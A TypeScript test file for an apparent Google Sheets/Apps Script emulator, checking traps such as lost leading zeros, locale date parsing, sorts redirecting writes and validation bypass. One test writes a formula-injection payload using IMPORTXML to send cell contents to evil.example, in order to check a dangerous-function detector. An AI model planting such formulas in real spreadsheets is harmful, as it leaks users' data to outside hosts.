import { dangerousFunctions } from '../../../emulator/formula/dangerous-functions';
import { stage } from '../../helpers/script-project';
import { onSheet } from './on-sheet';

const start = 'const sheet = SpreadsheetApp.getActiveSheet();';

describe('traps of values', () => {
  test('28 text from outside becomes a live formula and can be flagged', () => {
    const formula = onSheet(
      `sheet.appendRow(['Ann', '=IMPORTXML("https://evil.example/?d="&A1;"//a")']); return sheet.getRange('B1').getFormula();`,
    );
    expect(dangerousFunctions(String(formula))).toEqual(['IMPORTXML']);
  });

  test('29 phone numbers lose their zeros or become errors, unless the cell is text', () => {
    const numbers = `[['13800138000'], ['0086138'], ['007'], ['+86 138']]`;
    expect(onSheet(`const r = sheet.getRange('A1:A4'); r.setValues(${numbers}); return r.getValues().flat();`)).toEqual(
      [13800138000, 86138, 7, '#ERROR!'],
    );
    expect(
      onSheet(
        `const r = sheet.getRange('A1:A3').setNumberFormat('@'); r.setValues(${numbers}.slice(0, 3)); return r.getValues().flat();`,
      ),
    ).toEqual(['13800138000', '0086138', '007']);
  });

  test.each([
    ['en_US', '5/12/2026', '2026-05-12'],
    ['zh_CN', '2026/5/12', '2026-05-12'],
    ['de_DE', '5.12.2026', '2026-12-05'],
    ['en_US', '13:00', '1899-12-30'],
  ])('30 in %s the text %s is the day %s', (locale, text, day) => {
    const lines = `const r = sheet.getRange('A1'); r.setValue('${text}'); r.setNumberFormat('yyyy-mm-dd'); return [r.getValue() instanceof Date, r.getDisplayValue()];`;
    expect(onSheet(lines, { locale })).toEqual([true, day]);
  });

  test('31 reading and writing back turns text into numbers and dates', () => {
    const lines = `const r = sheet.getRange('A1:A3'); r.setValues([["'001"], ["'3-5"], ["'TRUE"]]); r.setValues(r.getValues()); return r.getValues().map(([v]) => (v instanceof Date ? 'date' : v));`;
    expect(onSheet(lines)).toEqual([1, 'date', true]);
  });

  test('34 a number where text was expected has no trim', () => {
    expect(() =>
      onSheet(`sheet.getRange('A1').setValue('13800138000'); sheet.getRange('A1').getValue().trim();`),
    ).toThrow('trim is not a function');
  });

  test('39 undefined in setValues clears cells', () => {
    const lines = `const r = sheet.getRange('A1:B1'); r.setValues([['a', 'b']]); r.setValues([['x', undefined]]); return r.getValues()[0];`;
    expect(onSheet(lines)).toEqual(['x', '']);
  });
});

describe('traps of structure', () => {
  test('41 a column inserted by a person moves what a script addresses by letter', () => {
    const { run, desk, file } = stage(`function write() { ${start} sheet.getRange('B2').setValue('won'); }`);
    desk.type('Sheet1', 'A1', 'name');
    desk.type('Sheet1', 'B1', 'stage');
    desk.insertColumns('Sheet1', 1, 1);
    run('write');
    expect([file.value('Sheet1', 'B1'), file.value('Sheet1', 'B2')]).toEqual(['name', 'won']);
  });

  test('42 a sort between read and write sends the write to another customer', () => {
    const { run, desk, file, world } = stage(`function write() { ${start}
      const row = sheet.getDataRange().getValues().findIndex(([name]) => name === 'Ann') + 1; sheet.getRange(row, 2).setValue('won'); }`);
    for (const [row, name] of ['Cy', 'Bo', 'Ann'].entries()) desk.type('Sheet1', `A${row + 1}`, name);
    world.hooks.push((tick) => {
      if (tick.name === 'Range.setValue' && tick.phase === 'before')
        desk.sort('Sheet1', { column: 1, ascending: true });
      return undefined;
    });
    run('write');
    expect(file.grid('Sheet1')).toEqual([
      ['Ann', null],
      ['Bo', null],
      ['Cy', 'won'],
    ]);
  });

  test('46 a sort by a script changes filtered rows too', () => {
    const { run, desk, file } = stage(`function sort() { ${start} sheet.setFrozenRows(1); sheet.sort(1); }`);
    for (const [row, text] of ['name', 'c', 'b', 'a'].entries()) desk.type('Sheet1', `A${row + 1}`, text);
    desk.filter('Sheet1', 'A1:A4', { 1: ['b'] });
    run('sort');
    expect(file.grid('Sheet1').flat()).toEqual(['name', 'a', 'b', 'c']);
  });

  test('51 a person’s paste passes a rejecting rule that stops the script', () => {
    const { run, desk, file } = stage(`function rule() { ${start}
      sheet.getRange('A1').setDataValidation(SpreadsheetApp.newDataValidation().requireValueInList(['a']).setAllowInvalid(false).build()); }
      function write() { ${start} sheet.getRange('A1').setValue('z'); }`);
    run('rule');
    expect(run('write').error?.message).toContain('violates the data validation rules');
    desk.paste('Sheet1', 'A1', [['z']], { mode: 'values' });
    expect(file.value('Sheet1', 'A1')).toBe('z');
  });

  test('54 each new tab costs 26,000 cells of the limit', () => {
    const lines = `sheet.insertRowsAfter(1000, 382500); ss.insertSheet('fits'); try { ss.insertSheet('too many'); } catch (error) { return error.message; }`;
    expect(onSheet(lines)).toBe(
      'This action would increase the number of cells in the workbook above the limit of 10000000 cells.',
    );
  });
});

describe('strictness of service objects', () => {
  test('typed but not emulated is a gap that no script can swallow', () => {
    expect(() => onSheet(`try { sheet.getRange('A1').randomize(); } catch (error) { return 'swallowed'; }`)).toThrow(
      'not emulated',
    );
  });

  test('an unknown member is no function', () => {
    expect(() => onSheet(`sheet.getRange('A1').setColour('red');`)).toThrow('setColour is not a function');
  });

  test('assigning a property throws', () => {
    expect(() => onSheet(`'use strict'; sheet.mark = 1;`)).toThrow();
  });

  test('a script that reads a cell with an unknown formula falls into a gap', () => {
    expect(() => onSheet(`sheet.getRange('A1').setFormula('=QUERY(B:B)'); sheet.getRange('A1').getValue();`)).toThrow(
      'QUERY',
    );
  });
});
